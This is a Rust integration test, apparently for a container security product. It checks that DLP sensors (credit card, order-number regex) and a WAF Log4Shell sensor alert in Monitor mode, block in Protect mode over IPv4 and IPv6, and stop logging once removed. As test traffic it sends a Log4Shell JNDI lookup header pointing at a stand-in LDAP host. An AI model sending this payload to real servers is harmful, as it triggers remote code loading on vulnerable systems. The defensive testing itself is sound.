//! DLP and WAF sensors on live messages: what a group uses is told with sensor and group, over IPv4 and IPv6, stopped in
//! Protect, and no more once the group uses it no more.

use std::net::IpAddr;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use nv_lab::{Output, Pod};
use nv_scene::{Scene, WEB_GROUP};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

const CARD: &str = "DLP.sensor.creditcard.rule.visa";
const SHOP: &str = "DLP.sensor.shop.rule.order";
const LOOKUP: &str = "WAF.sensor.log4shell.rule.log4shell";

fn address(pod: &Pod, six: bool) -> Result<IpAddr> {
    if six { pod.ipv6() } else { pod.ipv4() }.context("the pod has no such address")
}

fn text<'a>(value: &'a Value, key: &str) -> &'a str {
    value.get(key).and_then(Value::as_str).unwrap_or_default()
}

/// Asks the web server as the client.
async fn get(scene: &Scene, six: bool, path: &str, header: Option<&str>) -> Result<Output> {
    let server = address(&scene.web, six)?;
    let host = if six { format!("[{server}]") } else { server.to_string() };
    let url = format!("http://{host}{path}");
    let mut command = vec!["/bin/timeout", "5", "/bin/wget", "-q", "-O", "-"];
    command.extend(header.iter().flat_map(|header| ["--header", header]));
    command.push(&url);
    scene.run(&command).await
}

/// What every sensor of this test finds, once in each message.
async fn offend(scene: &Scene, six: bool) -> Result<[Output; 3]> {
    Ok([
        get(scene, six, "/cards.txt", None).await?,
        get(scene, six, "/index.html?note=ORDER%2d%347115", None).await?,
        get(scene, six, "/index.html", Some("X-Api-Version: %24%7bjndi:ldap://198.51.100.7/a%7d")).await?,
    ])
}

/// Records of this name at this server that were dealt with so.
fn told<'a>(answer: &'a Value, name: &str, action: &str, server: IpAddr) -> Vec<&'a Value> {
    let threats = answer.get("threats").and_then(Value::as_array).into_iter().flatten();
    threats
        .filter(|record| {
            text(record, "name") == name
                && text(record, "action") == action
                && text(record, "server_ip") == server.to_string()
        })
        .collect()
}

async fn wait_told(scene: &Scene, name: &str, action: &str, server: IpAddr) -> Result<Value> {
    scene
        .api
        .wait_for("/v1/log/threat", Duration::from_secs(15), |answer| {
            told(answer, name, action, server).first().map(|record| (*record).clone())
        })
        .await
        .map(|(record, _)| record)
        .with_context(|| format!("{name} at {server} is not told with {action}"))
}

async fn use_sensors(scene: &Scene, kind: &str, sensors: &Value) -> Result<()> {
    let config = json!({"config": {"name": WEB_GROUP, "status": true, "replace": sensors}});
    scene.api.patch(&format!("/v1/{kind}/group/{WEB_GROUP}"), &config).await?;
    // From the policy to the node, and to its inspector.
    tokio::time::sleep(Duration::from_secs(5)).await;
    Ok(())
}

async fn set_mode(scene: &Scene, mode: &str) -> Result<()> {
    let config =
        json!({"config": {"services": ["web.shop", "echo.shop", "client.shop"], "policy_mode": mode}});
    scene.api.patch("/v1/service/config", &config).await?;
    scene.wait_mode(mode).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_groups_sensors_find_is_told_with_sensor_and_group_until_it_uses_them_no_more() -> Result<()> {
    let scene = Scene::start("sensors").await?;
    let number = "4111 1111 1111 1111";
    let page = format!("echo 'paid with {number} yesterday' > /www/cards.txt");
    scene.lab.exec(scene.web.container(), &["/bin/sh", "-c", &page]).await?;
    scene.operate().await?;
    scene.wait_learned().await?;
    let sensor = json!({"config": {"name": "sensor.shop", "rules": [{"name": "rule.order", "patterns":
        [{"key": "pattern", "op": "regex", "value": "ORDER-[0-9]{5}", "context": "url"}]}]}});
    let (status, answer) = scene.api.call(Method::POST, "/v1/dlp/sensor", Some(&sensor)).await?;
    ensure!(status == StatusCode::OK, "{answer}");

    // Nobody uses a sensor yet.
    offend(&scene, false).await?;
    let action = |name: &str| json!({"name": name, "action": "deny"});
    use_sensors(&scene, "dlp", &json!([action("sensor.creditcard"), action("sensor.shop")])).await?;
    use_sensors(&scene, "waf", &json!([action("sensor.log4shell")])).await?;
    let none = scene.api.get("/v1/log/threat").await?;
    for name in [CARD, SHOP, LOOKUP] {
        ensure!(told(&none, name, "alert", address(&scene.web, false)?).is_empty(), "{name} is told already");
    }

    set_mode(&scene, "Monitor").await?;
    let begin = Instant::now();
    while told(&scene.api.get("/v1/log/threat").await?, LOOKUP, "alert", address(&scene.web, false)?)
        .is_empty()
    {
        ensure!(begin.elapsed() < Duration::from_secs(180), "sensors are not made ready");
        offend(&scene, false).await?;
        tokio::time::sleep(Duration::from_secs(2)).await;
    }
    for six in [false, true] {
        let server = address(&scene.web, six)?;
        let [cards, ..] = offend(&scene, six).await?;
        ensure!(cards.stdout.contains(number), "in Monitor it arrives: {}{}", cards.stdout, cards.stderr);
        for (name, sensor, ids, target) in [
            (CARD, "sensor.creditcard", 30_000..40_000, "client"),
            (SHOP, "sensor.shop", 20_000..30_000, "server"),
            (LOOKUP, "sensor.log4shell", 40_000..50_000, "server"),
        ] {
            let record = wait_told(&scene, name, "alert", server).await?;
            ensure!(text(&record, "sensor") == sensor && text(&record, "group") == WEB_GROUP, "{record}");
            let id = record.get("threat_id").and_then(Value::as_u64).unwrap_or_default();
            ensure!(ids.contains(&id) && text(&record, "target") == target, "{record}");
            ensure!(text(&record, "application") == "HTTP", "{record}");
            ensure!(text(&record, "server_workload_service") == WEB_GROUP, "{record}");
        }
    }

    set_mode(&scene, "Protect").await?;
    tokio::time::sleep(Duration::from_secs(5)).await;
    for six in [false, true] {
        let server = address(&scene.web, six)?;
        let ordinary = get(&scene, six, "/index.html", None).await?;
        ensure!(ordinary.exit_code == 0 && ordinary.stdout.contains("shop"), "{}", ordinary.stderr);
        let stopped = offend(&scene, six).await?;
        for output in &stopped {
            ensure!(
                output.exit_code != 0 && !output.stdout.contains(number),
                "it arrives: {}",
                output.stdout
            );
        }
        for name in [CARD, SHOP, LOOKUP] {
            wait_told(&scene, name, "deny", server).await?;
        }
    }

    use_sensors(&scene, "dlp", &json!([])).await?;
    use_sensors(&scene, "waf", &json!([])).await?;
    let (status, answer) = scene.api.call(Method::DELETE, "/v1/dlp/sensor/sensor.shop", None).await?;
    ensure!(status == StatusCode::OK, "{answer}");
    let count = |answer: &Value| {
        let threats = answer.get("threats").and_then(Value::as_array).into_iter().flatten();
        threats.filter(|record| !text(record, "sensor").is_empty()).count()
    };
    // Repeats of a minute are one record.
    tokio::time::sleep(Duration::from_secs(65)).await;
    let before = count(&scene.api.get("/v1/log/threat").await?);
    let begin = Instant::now();
    let [cards, ..] = offend(&scene, false).await?;
    ensure!(cards.stdout.contains(number), "nothing is stopped any more: {}", cards.stderr);
    tokio::time::sleep(Duration::from_secs(8)).await;
    let after = count(&scene.api.get("/v1/log/threat").await?);
    ensure!(before == after, "{} records more after {:?}", after.saturating_sub(before), begin.elapsed());
    scene.stop().await
}
